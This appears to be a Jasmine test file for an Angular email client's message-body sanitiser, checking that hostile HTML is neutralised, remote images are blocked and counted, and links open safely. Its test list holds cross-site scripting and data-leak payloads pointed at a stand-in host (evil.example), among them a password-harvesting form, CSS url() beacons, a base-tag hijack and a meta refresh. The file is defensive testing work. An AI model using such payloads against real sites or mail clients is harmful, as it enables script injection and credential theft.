import { TestBed } from '@angular/core/testing';
import { DomSanitizer } from '@angular/platform-browser';
import type { Message } from './message';
import { messageBody } from './message-body';

describe('messageBody', () => {
  const body = (content: string, contentType: 'html' | 'text' = 'html') =>
    messageBody({ body: { content, contentType } } as Message, TestBed.inject(DomSanitizer));

  for (const hostile of [
    '<script>document.title=1</script>',
    '<p onclick="document.title=1">x</p>',
    '<img src=x onerror="document.title=1">',
    '<a href="javascript:document.title=1">x</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<p style="background:url(https://evil.example)">x</p>',
    '<img src="x" alt="><img src=https://evil.example>">',
  ]) {
    it(`takes the harm out of ${hostile}`, () => {
      const { html } = body(hostile);

      expect(html).not.toMatch(/<(script|style|form|input|iframe|svg|base|meta|img)\b/i);
      expect(html).not.toMatch(/\son\w+=/i);
      expect(html).not.toMatch(/(?<!unsafe:)javascript:/i);
      expect(html).not.toMatch(/style=/i);
    });
  }

  it('counts the pictures it takes out', () => {
    expect(body('<img src="https://a.example/x.gif"><img src="cid:1">').blockedImages).toBe(2);
    expect(body('<p>x</p>').blockedImages).toBe(0);
  });

  it('keeps pictures with an https address for who wants to see them, and nothing else of them', () => {
    const images =
      '<img src="https://a.example/x.gif" onerror="document.title=1"><img src="cid:1"><img src="http://a.example/y.gif">';
    const { html, blockedImages } = messageBody(
      { body: { content: images, contentType: 'html' } } as Message,
      TestBed.inject(DomSanitizer),
      true,
    );

    expect(html.match(/<img[^>]*>/g)).toEqual(['<img src="https://a.example/x.gif">']);
    expect(blockedImages).toBe(2);
  });

  it('has nothing more to show where pictures are attached or not encrypted', () => {
    expect(body('<img src="https://a.example/x.gif"><img src="cid:1">').hasRemoteImages).toBeTrue();
    expect(body('<img src="cid:1"><img src="http://a.example/y.gif">').hasRemoteImages).toBeFalse();
  });

  it('opens links in a tab that knows nothing of this one', () => {
    expect(body('<a href="https://contoso.example/">x</a>').html).toContain(
      '<a target="_blank" rel="noopener noreferrer" href="https://contoso.example/">x</a>',
    );
  });

  it('shows plain text as it was typed', () => {
    expect(body('a < b\n<b>c</b> & d', 'text').html).toContain(
      'a &lt; b<br>&lt;b&gt;c&lt;/b&gt; &amp; d',
    );
  });

  it('has nothing to show of a message without a text', () => {
    expect(messageBody({} as Message, TestBed.inject(DomSanitizer)).blockedImages).toBe(0);
  });
});
